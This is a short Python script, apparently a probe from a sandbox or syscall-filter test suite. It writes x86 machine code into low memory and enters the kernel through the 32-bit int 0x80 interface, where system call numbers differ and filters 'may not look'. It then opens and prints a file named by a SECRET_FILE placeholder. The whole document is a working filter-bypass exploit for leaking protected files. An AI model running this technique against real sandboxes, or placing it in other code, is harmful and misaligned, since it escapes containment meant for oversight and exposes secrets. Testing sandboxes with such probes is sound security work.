"""
goal: call the kernel by the 32-bit door, where numbers mean something else and filters may not look
effect: leak
needs: x86_64
"""

import ctypes
import mmap
import os

# edi=number, esi=path below 4 GB; push rbx; mov eax,edi; mov ebx,esi; xor ecx,ecx; xor edx,edx; int 0x80; pop rbx; ret
code = bytes.fromhex("53" "89f8" "89f3" "31c9" "31d2" "cd80" "5b" "c3")
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(ctypes.c_void_p(0x10000000), ctypes.c_size_t(8192), 7, 0x22 | 0x10, -1, ctypes.c_long(0))
ctypes.memmove(low, code, len(code))
ctypes.memmove(low + 4096, SECRET_FILE.encode() + b"\0", len(SECRET_FILE) + 1)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_long)(low)
print(os.read(call(5, low + 4096), 100))
